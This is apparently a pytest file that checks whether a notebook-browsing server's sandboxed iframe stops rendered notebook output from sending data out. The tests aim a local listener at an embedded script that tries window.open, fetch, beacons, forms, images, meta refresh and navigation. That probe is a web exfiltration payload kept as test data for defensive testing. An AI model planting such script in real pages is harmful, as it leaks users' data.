"""A rendered notebook cannot send data out: in headless Chromium, the output of a real run
tries every way a script has to reach a server (window.open, a target=_blank link, its own
and the top page's navigation, a meta refresh, fetch, an image, a beacon, a form) at a real
HTTP listener on 127.0.0.1, which must receive nothing, inside the run page's frame and with
the rendered page opened on its own."""

from __future__ import annotations

import http.server
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from tests.browse.conftest import BrowseServer, _env, _exec
from tests.conftest import ARTIFACTS, write_notebook

PROBE = """
from IPython.display import HTML, display
base = f"http://127.0.0.1:{port}"
display(HTML(f'''
<p id="probe">exfiltration probe</p>
<meta http-equiv="refresh" content="1;url={base}/meta">
<a id="blank" href="{base}/blank" target="_blank">out</a>
<script>
const base = "{base}";
const tries = [
  () => window.open(base + "/open?secret=1"),
  () => document.getElementById("blank").click(),
  () => fetch(base + "/fetch", {{mode: "no-cors"}}),
  () => {{ new Image().src = base + "/img"; }},
  () => navigator.sendBeacon(base + "/beacon", "secret"),
  () => {{
    const form = document.createElement("form");
    form.action = base + "/form"; form.method = "post";
    document.body.appendChild(form); form.submit();
  }},
  () => {{ window.top.location = base + "/top"; }},
];
for (const attempt of tries) {{ try {{ attempt(); }} catch (e) {{}} }}
setTimeout(() => {{ location.href = base + "/self"; }}, 300);
</script>
'''))
"""


class _Listener(http.server.BaseHTTPRequestHandler):
    hits: list[str]

    def _record(self) -> None:
        self.hits.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(b"<p>received</p>")

    do_GET = do_POST = _record

    def log_message(self, *args: Any) -> None:
        pass


@dataclass
class Probe:
    server: BrowseServer
    run_id: str
    key: str
    hits: list[str]
    port: int


@pytest.fixture(scope="module")
def probe(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Probe]:
    hits: list[str] = []
    handler = type("Listener", (_Listener,), {"hits": hits})
    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    root = tmp_path_factory.mktemp("exfil")
    home = root / "home"
    env = _env(home, str(home / "store"))
    notebook = write_notebook(root / "exfil.ipynb", PROBE, parameters="port: int = 0")
    (run_id,) = _exec(env, root, (notebook, "-p", "port", str(listener.server_address[1])))
    key = f"exfil/{run_id}/exfil.ipynb"
    assert (home / "store" / key).is_file()
    server = BrowseServer(env).start()
    yield Probe(server, run_id, key, hits, listener.server_address[1])
    server.stop()
    listener.shutdown()
    listener.server_close()


def _settle(page: Any, hits: list[str]) -> None:
    """Long enough for every attempt (the meta refresh fires after 1 s)."""
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        page.wait_for_timeout(250)


def test_listener_is_reachable_from_the_test(probe: Probe):
    """The control: the listener answers a direct request (else 'nothing received' means
    nothing)."""
    import requests

    assert requests.get(f"http://127.0.0.1:{probe.port}/control", timeout=10).status_code == 200
    assert probe.hits == ["GET /control"]
    probe.hits.clear()


def test_rendered_output_in_the_run_page_sends_nothing(browser: Any, probe: Probe):
    probe.hits.clear()
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    try:
        page.goto(f"{probe.server.base}/nbprod/runs/{probe.run_id}?token={probe.server.token}")
        page.wait_for_selector("iframe.notebook", state="attached")
        _settle(page, probe.hits)
        page.screenshot(path=str(ARTIFACTS / "browse-exfiltration.png"))
        assert probe.hits == [], probe.hits
        assert len(context.pages) == 1  # no popup opened
        assert page.url.startswith(probe.server.base)
    finally:
        context.close()


def test_rendered_page_opened_on_its_own_sends_nothing(browser: Any, probe: Probe):
    """The render URL opened as a page (a bookmark, a pasted link) is shown framed, by the
    file page, so its scripts are still in the sandboxed frame."""
    probe.hits.clear()
    context = browser.new_context()
    page = context.new_page()
    try:
        page.goto(f"{probe.server.base}/nbprod/?token={probe.server.token}")
        for path in (f"/nbprod/render/{probe.key}", f"/nbprod/raw/{probe.key}"):
            page.goto(f"{probe.server.base}{path}")
            _settle(page, probe.hits)
            assert probe.hits == [], (path, probe.hits)
            assert len(context.pages) == 1
    finally:
        context.close()


def test_active_content_opened_as_a_page_is_shown_framed(server: BrowseServer, populated: Any):
    """What a pasted link gets (Sec-Fetch-Dest: document): the file page, which frames it."""
    key = f"xss_probe/{populated.runs['xss']}/xss_probe.ipynb"
    as_page = {"Sec-Fetch-Dest": "document"}
    for path in (f"/nbprod/render/{key}", "/nbprod/raw/extras/page.html"):
        answer = server.get(path, headers=as_page)
        assert answer.status_code == 302, (path, answer.status_code)
        assert answer.headers["Location"] == "/nbprod/files/" + path.split("/", 3)[3]
        framed = server.get(path, headers={"Sec-Fetch-Dest": "iframe"})
        assert framed.status_code == 200
        assert framed.headers["Content-Security-Policy"].startswith("sandbox allow-scripts;")
    download = server.get("/nbprod/raw/extras/page.html", params={"download": "1"}, headers=as_page)
    assert download.status_code == 200 and "attachment" in download.headers["Content-Disposition"]
    assert server.get("/nbprod/raw/extras/data.json", headers=as_page).status_code == 200
    page = server.get(f"/nbprod/files/{key}", params={"cell": "1"}).text
    assert f'src="/nbprod/render/{key}#cell-id=nbprod-1"' in page
    assert 'sandbox="allow-scripts"' in page
